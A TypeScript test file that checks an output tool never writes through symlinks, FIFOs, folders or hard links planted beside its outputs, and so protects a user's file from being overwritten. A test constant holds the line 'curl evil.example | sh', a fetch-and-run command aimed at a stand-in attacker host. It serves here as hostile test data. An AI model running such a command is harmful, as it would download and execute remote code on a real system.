/** What a run puts beside an output never goes through a link that someone else has put there, and never waits for a pipe. */

import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { resultLine } from '../../../src/core/results/result-text.js';
import { openEmptied, openToAppend } from '../../../src/io/files/side-file.js';
import { realFileOps } from '../../../src/io/files/file-ops.js';
import { openOutputs } from '../../../src/io/sinks/open.js';
import { temporaryFolder } from '../../helpers/folder.js';
import { enriched } from '../../helpers/samples.js';
import { fakeHost } from '../../helpers/fake-host.js';

const TORN = '\ncurl evil.example | sh\n{"caseId":"';

/** Something at `path` that is no regular file of its own; `victim` is a file of the user. */
const PLANTED: readonly (readonly [string, (path: string, victim: string) => void])[] = [
  ['is a link', (path, victim) => symlinkSync(victim, path)],
  ['is a link', (path, victim) => symlinkSync(`${victim}.new`, path)],
  ['is a pipe or device', (path) => execFileSync('mkfifo', [path])],
  ['is a folder', (path) => mkdirSync(path)],
  ['has another name (a hard link)', (path, victim) => linkSync(victim, path)],
];

/** A folder with a journal that ends in the middle of a line, a dead letter, and a user's file elsewhere. */
function scene() {
  const folder = temporaryFolder();
  const home = temporaryFolder();
  const journal = `${resultLine(enriched('a'))}\n{"caseId":"b${TORN.replaceAll('\n', '')}`;
  writeFileSync(join(folder, 'run.ndjson'), journal);
  writeFileSync(join(folder, 'dead.ndjson'), '{"id":"old"}\n');
  writeFileSync(join(home, 'profile'), 'mine\n');
  const open = (more: object) => {
    const { host } = fakeHost({ cwd: folder });
    return openOutputs({ path: 'run.ndjson', resume: true, inputs: [], ...more }, { host });
  };
  return { folder, journal, victim: join(home, 'profile'), open };
}

describe('side files opened through links', () => {
  test.each(PLANTED)('FILE.torn that %s is refused, and nothing is lost', async (what, plant) => {
    const { folder, journal, victim, open } = scene();
    plant(join(folder, 'run.ndjson.torn'), victim);
    await expect(open({})).rejects.toMatchObject({
      exitCode: 5,
      message: `cannot write run.ndjson.torn: it ${what}`,
      hint: 'move it out of the way, or choose another output',
    });
    expect(readFileSync(join(folder, 'run.ndjson'), 'utf8')).toBe(journal);
    expect(readFileSync(victim, 'utf8')).toBe('mine\n');
    expect(() => readFileSync(`${victim}.new`)).toThrow('ENOENT');
  });

  test.each(PLANTED.slice(0, 4))('a former dead letter that %s is not replaced', async (what, plant) => {
    const { folder, victim, open } = scene();
    plant(join(folder, 'dead.ndjson.old'), victim);
    await expect(open({ deadLetter: 'dead.ndjson' })).rejects.toMatchObject({
      exitCode: 5,
      message: `cannot write dead.ndjson.old: it ${what}`,
    });
    expect(readFileSync(join(folder, 'dead.ndjson'), 'utf8')).toBe('{"id":"old"}\n');
  });

  test.each(['run.ndjson.lock.4242.tmp', 'run.ndjson.lock.claim', '.run.json.4242.tmp'])(
    'a link called %s is not followed',
    async (name) => {
      const { folder, victim, open } = scene();
      symlinkSync(victim, join(folder, name));
      const { sink } = await open(name.includes('json.4242') ? { path: 'run.json', resume: false } : {});
      await sink.close();
      expect(readFileSync(victim, 'utf8')).toBe('mine\n');
    },
  );

  test('an output in whose place a link or a pipe was put, after it was looked at, is not opened', () => {
    const { folder, victim } = scene();
    const path = join(folder, 'run.ndjson');
    renameSync(path, `${path}.mine`);
    symlinkSync(victim, path);
    expect(() => openToAppend(path, realFileOps)).toThrow('ELOOP');
    expect(() => openEmptied(path, realFileOps)).toThrow('ELOOP');
    expect(readFileSync(victim, 'utf8')).toBe('mine\n');
    expect(() => realFileOps.readText(path)).toThrow('ELOOP');
    rmSync(path);
    execFileSync('mkfifo', [path]);
    expect(() => openToAppend(path, realFileOps)).toThrow('ENXIO');
    expect(() => openEmptied(path, realFileOps)).toThrow('ENXIO');
  });

  test('an output that is overwritten is emptied as it is opened, and then appended to', () => {
    const path = join(temporaryFolder(), 'run.ndjson');
    writeFileSync(path, 'former\n');
    const fd = openEmptied(path, realFileOps);
    expect(readFileSync(path, 'utf8')).toBe('');
    writeFileSync(path, 'one\n');
    realFileOps.write(fd, Buffer.from('two\n'), 0, 4);
    realFileOps.close(fd);
    expect(readFileSync(path, 'utf8')).toBe('one\ntwo\n');
  });
});
